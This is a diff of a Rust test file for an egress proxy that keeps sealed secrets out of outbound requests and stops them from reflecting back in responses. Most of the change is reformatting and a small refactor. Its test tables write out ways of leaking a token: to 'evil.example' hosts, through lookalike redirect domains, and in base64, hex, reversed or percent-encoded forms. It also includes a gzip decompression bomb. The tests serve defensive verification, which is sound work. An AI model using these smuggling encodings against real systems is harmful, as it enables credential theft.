@@ -16,7 +16,6 @@ use super::decode::Coding;
 use super::decode::tests::compressed;
 use super::guards::{Guard, Guards};
 use super::*;
-use crate::egress::request::Origin;
 use crate::egress::HostName;
 use crate::secret::{Binding, Placement, Scheme, SecretName, SecretValue};
 
@@ -99,7 +98,6 @@ impl Pieces {
 }
 
 #[derive(Debug)]
-#[expect(dead_code, reason = "shown where a test fails")]
 enum Fault {
     Sealed(SealedFault),
     Response(ResponseFault),
@@ -131,8 +129,7 @@ fn send(run: &Run, request: Request<Pieces>) -> Result<String, Fault> {
     let scheme = if uri.scheme_str() == Some("http") { Scheme::Http } else { Scheme::Https };
     let host = HostName::parse(uri.host().unwrap()).unwrap();
     let port = uri.port_u16().unwrap_or(scheme.default_port());
-    let origin = Origin { scheme, host, port };
-    let plan = run.set.place(&origin, &parts, true).map_err(Fault::Sealed)?;
+    let plan = run.set.place(Destination { scheme, host: &host, port }, &parts, true).map_err(Fault::Sealed)?;
     let body = match plan.body() {
         BodyPlan::Hold { at_most } => {
             let body = block_on(body.collect())?.to_bytes();
@@ -155,7 +152,9 @@ fn get(uri: &str, fields: &[(&str, &str)]) -> Request<Pieces> {
 }
 
 fn method(method: &str, uri: &str, fields: &[(&str, &str)], body: &str) -> Request<Pieces> {
-    let request = fields.iter().fold(Request::builder().method(method).uri(uri), |request, (name, value)| request.header(*name, *value));
+    let request = fields
+        .iter()
+        .fold(Request::builder().method(method).uri(uri), |request, (name, value)| request.header(*name, *value));
     request.body(Pieces::of(body.as_bytes(), 7)).unwrap()
 }
 
@@ -206,7 +205,9 @@ const REQUESTS: &[(&str, Guard, Ask)] = &[
     ("the user in the url", Guard::Site, |run| get(&format!("https://{}@api.example.com/", run.token), &[])),
     ("the method", Guard::Site, |run| method(&run.token, API, &[], "")),
     ("the name of a header", Guard::Site, |run| get(API, &[(run.token.as_str(), "x")])),
-    ("a percent-encoded path", Guard::Site, |run| get(&format!("https://api.example.com/{}", run.token.replace('_', "%5f")), &[])),
+    ("a percent-encoded path", Guard::Site, |run| {
+        get(&format!("https://api.example.com/{}", run.token.replace('_', "%5f")), &[])
+    }),
     ("trailers", Guard::Site, |run| {
         let mut trailers = HeaderMap::new();
         trailers.insert("x-note", run.token.parse().unwrap());
@@ -216,8 +217,12 @@ const REQUESTS: &[(&str, Guard, Ask)] = &[
     ("base64 one byte on", Guard::Known, |run| authorization(STANDARD.encode(format!("x{}", run.token)))),
     ("base64 two bytes on", Guard::Known, |run| authorization(STANDARD.encode(format!("xy{}", run.token)))),
     ("base64 of base64", Guard::Known, |run| authorization(STANDARD.encode(STANDARD.encode(&run.token)))),
-    ("user and password", Guard::Known, |run| authorization(format!("Basic {}", STANDARD.encode(format!("{0}:{0}", run.token))))),
-    ("part of a password", Guard::Known, |run| authorization(format!("Basic {}", STANDARD.encode(format!("user:x{}", run.token))))),
+    ("user and password", Guard::Known, |run| {
+        authorization(format!("Basic {}", STANDARD.encode(format!("{0}:{0}", run.token))))
+    }),
+    ("part of a password", Guard::Known, |run| {
+        authorization(format!("Basic {}", STANDARD.encode(format!("user:x{}", run.token))))
+    }),
     ("upper case", Guard::Known, |run| authorization(run.token.to_uppercase())),
     ("hexadecimal", Guard::Known, |run| authorization(run.token.bytes().map(|byte| format!("{byte:02x}")).collect())),
     ("reversed", Guard::Known, |run| authorization(run.token.chars().rev().collect())),
@@ -226,25 +231,41 @@ const REQUESTS: &[(&str, Guard, Ask)] = &[
     ("split over two headers", Guard::Known, |run| get(API, &[("x-a", &run.token[..21]), ("x-b", &run.token[21..])])),
     ("percent-encoded", Guard::Known, |run| get(&format!("{API}?api_key={}", run.key.replace('u', "%75")), &[])),
     ("another run's", Guard::Known, |_| authorization(Placeholder::new().to_string())),
-    ("another run's, stored and read later", Guard::Known, |_| get(&format!("{API}?api_key={}", Placeholder::new()), &[])),
+    ("another run's, stored and read later", Guard::Known, |_| {
+        get(&format!("{API}?api_key={}", Placeholder::new()), &[])
+    }),
     ("a denied field in the store", Guard::Field, |run| get(API, &[("cookie", &run.old)])),
-    ("in two fields it is bound to", Guard::Once, |run| get(&format!("{API}?api_key={}", run.both), &[("x-both", &run.both)])),
-    ("two headers of a name", Guard::Once, |run| get(API, &[("authorization", &run.token), ("authorization", &run.token)])),
+    ("in two fields it is bound to", Guard::Once, |run| {
+        get(&format!("{API}?api_key={}", run.both), &[("x-both", &run.both)])
+    }),
+    ("two headers of a name", Guard::Once, |run| {
+        get(API, &[("authorization", &run.token), ("authorization", &run.token)])
+    }),
     ("a parameter that is there twice", Guard::Once, |run| get(&format!("{API}?api_key={}&api%5fkey=x", run.key), &[])),
-    ("a member that is there twice", Guard::Once, |run| json(format!("{{\"token\": \"{}\", \"t\\u006fken\": 1}}", run.field))),
+    ("a member that is there twice", Guard::Once, |run| {
+        json(format!("{{\"token\": \"{}\", \"t\\u006fken\": 1}}", run.field))
+    }),
     ("a field of a form that is there twice", Guard::Once, |run| form(format!("token={0}&token={0}", run.field))),
     ("another host", Guard::Bound, |run| bearer("https://evil.example/", run)),
-    ("a redirect to another host", Guard::Bound, |run| bearer("https://api.example.com.evil.example/v1/contacts?next=1", run)),
+    ("a redirect to another host", Guard::Bound, |run| {
+        bearer("https://api.example.com.evil.example/v1/contacts?next=1", run)
+    }),
     ("a host below", Guard::Bound, |run| bearer("https://x.api.example.com/", run)),
     ("the host above", Guard::Bound, |run| bearer("https://example.com/", run)),
     ("no encryption", Guard::Bound, |run| bearer("http://api.example.com/", run)),
     ("no encryption on the same port", Guard::Bound, |run| bearer("http://api.example.com:443/", run)),
     ("another port", Guard::Bound, |run| bearer("https://api.example.com:8443/", run)),
-    ("a query's secret to another host", Guard::Bound, |run| get(&format!("https://evil.example/?api_key={}", run.key), &[])),
+    ("a query's secret to another host", Guard::Bound, |run| {
+        get(&format!("https://evil.example/?api_key={}", run.key), &[])
+    }),
     ("another method", Guard::Bound, |run| get(API, &[("x-narrow", &run.narrow)])),
     ("a method in lower case", Guard::Bound, |run| method("post", API, &[("x-narrow", &run.narrow)], "")),
-    ("another path", Guard::Bound, |run| method("POST", "https://api.example.com/v10/x", &[("x-narrow", &run.narrow)], "")),
-    ("a path with dots", Guard::Bound, |run| method("POST", "https://api.example.com/v1/%2e%2e/admin", &[("x-narrow", &run.narrow)], "")),
+    ("another path", Guard::Bound, |run| {
+        method("POST", "https://api.example.com/v10/x", &[("x-narrow", &run.narrow)], "")
+    }),
+    ("a path with dots", Guard::Bound, |run| {
+        method("POST", "https://api.example.com/v1/%2e%2e/admin", &[("x-narrow", &run.narrow)], "")
+    }),
     ("TRACE", Guard::Method, |run| method("TRACE", API, &[("authorization", &run.token)], "")),
     ("CONNECT", Guard::Method, |run| method("connect", API, &[("authorization", &run.token)], "")),
     ("Range", Guard::Range, |run| get(API, &[("authorization", &run.token), ("range", "bytes=10-12")])),
@@ -253,7 +274,9 @@ const REQUESTS: &[(&str, Guard, Ask)] = &[
     ("a body in upper case", Guard::Body, |run| cut_in(&run.token.to_uppercase(), 1000)),
     ("a body in base64", Guard::Body, |run| cut_in(&STANDARD.encode(format!("x{}", run.token)), 1000)),
     ("a body with percent signs", Guard::Body, |run| cut_in(&run.token.replace('m', "%256d"), 5)),
-    ("another member besides", Guard::Body, |run| json(format!("{{\"token\": \"{0}\", \"note\": [\"{0}\"]}}", run.field))),
+    ("another member besides", Guard::Body, |run| {
+        json(format!("{{\"token\": \"{0}\", \"note\": [\"{0}\"]}}", run.field))
+    }),
     ("a member inside", Guard::Body, |run| json(format!("{{\"a\": {{\"token\": \"{}\"}}}}", run.field))),
     ("part of a member", Guard::Body, |run| json(format!("{{\"token\": \"x{}\"}}", run.field))),
     ("the name of a member", Guard::Body, |run| json(format!("{{\"{}\": \"token\"}}", run.field))),
@@ -286,14 +309,26 @@ fn what_does_belong_goes_out() {
         (authorization(run.token.clone()), format!("authorization: {TOKEN}\n")),
         (authorization(format!("Bearer {}", run.token)), format!("authorization: Bearer {TOKEN}\n")),
         (authorization(basic(format!("{}:x", run.token))), format!("authorization: {}\n", basic(format!("{TOKEN}:x")))),
-        (authorization(basic(format!("me:{}", run.token))), format!("authorization: {}\n", basic(format!("me:{TOKEN}")))),
-        (get(&format!("{API}?a=1&api_key={}&b", run.key), &[]), "GET /v1/contacts?a=1&api_key=key%2616C7e42F292c%2F6912%3D7710c8&b\n".to_owned()),
-        (form(format!("a=+b&token={}&c", run.field)), "\n\na=+b&token=field%2216C7e42F292c%5C6912%2B7710c8&c".to_owned()),
+        (
+            authorization(basic(format!("me:{}", run.token))),
+            format!("authorization: {}\n", basic(format!("me:{TOKEN}"))),
+        ),
+        (
+            get(&format!("{API}?a=1&api_key={}&b", run.key), &[]),
+            "GET /v1/contacts?a=1&api_key=key%2616C7e42F292c%2F6912%3D7710c8&b\n".to_owned(),
+        ),
+        (
+            form(format!("a=+b&token={}&c", run.field)),
+            "\n\na=+b&token=field%2216C7e42F292c%5C6912%2B7710c8&c".to_owned(),
+        ),
         (
             json(format!(" {{\"n\": 1e2 ,\"token\":\"{}\", \"x\":[]}}\n", run.field)),
             "\n\n {\"n\": 1e2 ,\"token\":\"field\\\"16C7e42F292c\\\\6912+7710c8\", \"x\":[]}\n".to_owned(),
         ),
-        (method("POST", "https://api.example.com/v1", &[("x-narrow", &run.narrow)], ""), format!("x-narrow: {NARROW}\n")),
+        (
+            method("POST", "https://api.example.com/v1", &[("x-narrow", &run.narrow)], ""),
+            format!("x-narrow: {NARROW}\n"),
+        ),
         (get(API, &[("x-both", &run.both), ("authorization", &run.token)]), format!("x-both: {BOTH}\n")),
         (json("{\"token\": 1, \"token\": \"other\"}".to_owned()), "{\"token\": 1, \"token\": \"other\"}".to_owned()),
         (cut_in("any text, with um-sealed things", 4), "any text, with um-sealed things".to_owned()),
@@ -309,8 +344,8 @@ fn what_does_belong_goes_out() {
 fn a_held_body_has_a_limit() {
     let run = run(Guards::default());
     let (parts, _) = json(String::new()).into_parts();
-    let origin = Origin { scheme: Scheme::Https, host: HostName::parse("api.example.com").unwrap(), port: 443 };
-    let plan = run.set.place(&origin, &parts, true).unwrap();
+    let host = HostName::parse("api.example.com").unwrap();
+    let plan = run.set.place(Destination { scheme: Scheme::Https, host: &host, port: 443 }, &parts, true).unwrap();
     let BodyPlan::Hold { at_most } = plan.body() else { panic!("a field of the body is bound") };
     assert!(plan.fill_body(&Bytes::from(vec![b' '; at_most])).is_ok());
     assert_eq!(plan.fill_body(&Bytes::from(vec![b' '; at_most + 1])), Err(SealedFault::BodyTooLong));
@@ -319,7 +354,8 @@ fn a_held_body_has_a_limit() {
 #[test]
 fn a_url_leaves_room_for_any_value_whatever_its_length() {
     let run = run(Guards::default());
-    let target = |length: usize| get(&format!("https://api.example.com/?api_key={}&x={}", run.key, "x".repeat(length)), &[]);
+    let target =
+        |length: usize| get(&format!("https://api.example.com/?api_key={}&x={}", run.key, "x".repeat(length)), &[]);
     assert!(send(&run, target(50_000)).is_ok());
     assert!(matches!(send(&run, target(60_000)), Err(Fault::Sealed(SealedFault::TargetTooLong))));
 }
@@ -330,10 +366,12 @@ fn receive(reflections: &Reflections, response: Response<Pieces>, coding: Coding
     let (parts, body) = filter_head(parts, body, reflections)?;
     let collected = block_on(body.collect())?;
     let fields = parts.headers.iter().chain(collected.trailers().into_iter().flatten());
-    let head: String = fields.map(|(name, value)| format!("{name}: {}\n", String::from_utf8_lossy(value.as_bytes()))).collect();
+    let head: String =
+        fields.map(|(name, value)| format!("{name}: {}\n", String::from_utf8_lossy(value.as_bytes()))).collect();
     let body = collected.to_bytes();
     let mut decoded = Vec::new();
-    let inflated = super::decode::Decoder::new(coding, Guards::default()).write(&body, &mut decoded);
+    let mut decoder = super::decode::Decoder::new(coding, Guards::default());
+    let inflated = decoder.write(&body, &mut decoded).and_then(|()| decoder.finish(&mut decoded));
     let seen = if inflated.is_ok() { decoded } else { body.to_vec() };
     Ok(format!("{head}\n{}", String::from_utf8_lossy(&seen)))
 }
@@ -345,7 +383,9 @@ fn plain(text: impl AsRef<[u8]>) -> (Response<Pieces>, Coding) {
 }
 
 fn packed(coding: Coding, name: &str) -> (Response<Pieces>, Coding) {
-    let text = format!("{{\"authorization\": \"Bearer {TOKEN}\"}}");
+    // Behind so many digits that no coding leaves it as it is.
+    let digits = (0..5000_u32).map(|number| (number.wrapping_mul(2_654_435_761) >> 12).to_string());
+    let text = format!("{}{{\"authorization\": \"Bearer {TOKEN}\"}}", digits.collect::<String>());
     let body = Pieces::of(&compressed(coding, text.as_bytes()), 10);
     (Response::builder().header("content-encoding", name).body(body).unwrap(), coding)
 }
@@ -363,7 +403,10 @@ fn knows(seen: &str) -> bool {
         let encoded = STANDARD.encode(format!("{before}{TOKEN}"));
         encoded[4..encoded.len() - 4].to_owned()
     });
-    [TOKEN.to_owned(), TOKEN.to_lowercase(), upper, reversed, hex(TOKEN)].iter().chain(&cores).any(|form| text.contains(form))
+    [TOKEN.to_owned(), TOKEN.to_lowercase(), upper, reversed, hex(TOKEN)]
+        .iter()
+        .chain(&cores)
+        .any(|form| text.contains(form))
         || text.replace("%5F", "_").replace("%2D", "-").contains(TOKEN)
 }
 
@@ -371,24 +414,52 @@ const ANSWERS: &[(&str, Guard, Echo)] = &[
     ("as it is", Guard::Reflected, || plain(format!("Authorization: Bearer {TOKEN}"))),
     ("in base64", Guard::Reflected, || plain(STANDARD.encode(TOKEN))),
     ("in Basic", Guard::Reflected, || plain(STANDARD.encode(format!("user:{TOKEN}")))),
-    ("in base64 with lines", Guard::Reflected, || plain(STANDARD.encode(format!("xy{TOKEN}")).as_bytes().chunks(20).collect::<Vec<_>>().join(&b"\n"[..]))),
+    ("in base64 with lines", Guard::Reflected, || {
+        plain(STANDARD.encode(format!("xy{TOKEN}")).as_bytes().chunks(20).collect::<Vec<_>>().join(&b"\n"[..]))
+    }),
     ("in hexadecimal", Guard::Reflected, || plain(hex(TOKEN))),
     ("percent-encoded", Guard::Reflected, || plain(TOKEN.replace('_', "%5F").replace('-', "%2D"))),
     ("in upper case", Guard::Reflected, || plain(TOKEN.to_uppercase())),
     ("reversed", Guard::Reflected, || plain(TOKEN.chars().rev().collect::<String>())),
     ("twice on end", Guard::Reflected, || plain(format!("{TOKEN}{TOKEN}"))),
     ("trickled", Guard::Held, || (Response::new(Pieces::of(format!("got {TOKEN}").as_bytes(), 1)), Coding::Identity)),
-    ("in two pieces", Guard::Held, || (Response::new(Pieces::of(format!("got {TOKEN}").as_bytes(), 30)), Coding::Identity)),
+    ("in two pieces", Guard::Held, || {
+        (Response::new(Pieces::of(format!("got {TOKEN}").as_bytes(), 30)), Coding::Identity)
+    }),
     ("in gzip", Guard::Decode, || packed(Coding::Gzip, "gzip")),
     ("in deflate", Guard::Decode, || packed(Coding::Deflate, "deflate")),
     ("in br", Guard::Decode, || packed(Coding::Brotli, "br")),
     ("in zstd", Guard::Decode, || packed(Coding::Zstd, "zstd")),
     ("in gzip that is called otherwise", Guard::Decode, || packed(Coding::Gzip, "compress")),
     ("in gzip that claims to be twice", Guard::Decode, || packed(Coding::Gzip, "gzip, gzip")),
-    ("in a header", Guard::Head, || (Response::builder().header("x-echo", format!("Bearer {TOKEN}")).body(Pieces::default()).unwrap(), Coding::Identity)),
-    ("in a redirect", Guard::Head, || (Response::builder().status(302).header("location", format!("https://evil.example/?{TOKEN}")).body(Pieces::default()).unwrap(), Coding::Identity)),
-    ("in a cookie", Guard::Head, || (Response::builder().header("set-cookie", format!("t={}", STANDARD.encode(TOKEN))).body(Pieces::default()).unwrap(), Coding::Identity)),
-    ("in the name of a header", Guard::Head, || (Response::builder().header(TOKEN, "x").body(Pieces::default()).unwrap(), Coding::Identity)),
+    ("in a header", Guard::Head, || {
+        (
+            Response::builder().header("x-echo", format!("Bearer {TOKEN}")).body(Pieces::default()).unwrap(),
+            Coding::Identity,
+        )
+    }),
+    ("in a redirect", Guard::Head, || {
+        (
+            Response::builder()
+                .status(302)
+                .header("location", format!("https://evil.example/?{TOKEN}"))
+                .body(Pieces::default())
+                .unwrap(),
+            Coding::Identity,
+        )
+    }),
+    ("in a cookie", Guard::Head, || {
+        (
+            Response::builder()
+                .header("set-cookie", format!("t={}", STANDARD.encode(TOKEN)))
+                .body(Pieces::default())
+                .unwrap(),
+            Coding::Identity,
+        )
+    }),
+    ("in the name of a header", Guard::Head, || {
+        (Response::builder().header(TOKEN, "x").body(Pieces::default()).unwrap(), Coding::Identity)
+    }),
     ("in trailers", Guard::Head, || {
         let mut trailers = HeaderMap::new();
         trailers.insert("x-echo", TOKEN.parse().unwrap());
@@ -400,7 +471,8 @@ const ANSWERS: &[(&str, Guard, Echo)] = &[
 fn no_answer_takes_a_sealed_value_to_the_guest_but_without_its_guard() {
     for placeholder in [Some(Placeholder::new()), None] {
         let stands = placeholder.as_ref().map_or("***".to_owned(), Placeholder::to_string);
-        let reflections = Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder }]);
+        let reflections =
+            Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder }]);
         for (how, guard, echo) in ANSWERS {
             let (response, coding) = echo();
             match receive(&reflections, response, coding) {
@@ -418,7 +490,8 @@ fn no_answer_takes_a_sealed_value_to_the_guest_but_without_its_guard() {
 #[test]
 fn a_bomb_reaches_the_guest_only_without_its_guard() {
     let bomb = compressed(Coding::Gzip, &vec![b'a'; 8 << 20]);
-    let reflections = Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
+    let reflections =
+        Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
     let answer = || Response::builder().header("content-encoding", "gzip").body(Pieces::of(&bomb, 5000)).unwrap();
     let refused = receive(&reflections, answer(), Coding::Identity);
     assert!(matches!(refused, Err(Fault::Response(ResponseFault::TooLarge))));
@@ -428,7 +501,8 @@ fn a_bomb_reaches_the_guest_only_without_its_guard() {
 
 #[test]
 fn an_answer_loses_what_measures_its_body_and_says_what_was_found() {
-    let reflections = Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
+    let reflections =
+        Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
     let answer = Response::builder()
         .header("content-length", "41")
         .header("content-encoding", "identity")
@@ -450,7 +524,10 @@ fn a_body_that_breaks_off_does_not_let_out_what_was_held_back() {
         type Data = Bytes;
         type Error = Fault;
 
-        fn poll_frame(mut self: Pin<&mut Self>, context: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Fault>>> {
+        fn poll_frame(
+            mut self: Pin<&mut Self>,
+            context: &mut Context<'_>,
+        ) -> Poll<Option<Result<Frame<Bytes>, Fault>>> {
             match Pin::new(&mut self.0).poll_frame(context) {
                 Poll::Ready(None) => Poll::Ready(Some(Err(Fault::Response(ResponseFault::Truncated)))),
                 other => other,
@@ -458,7 +535,8 @@ fn a_body_that_breaks_off_does_not_let_out_what_was_held_back() {
         }
     }
 
-    let reflections = Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
+    let reflections =
+        Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
     let answer = Response::new(Broken(Pieces::of(&TOKEN.as_bytes()[..40], 40)));
     let (parts, body) = answer.into_parts();
     let (_, mut body) = filter_head(parts, body, &reflections).unwrap();
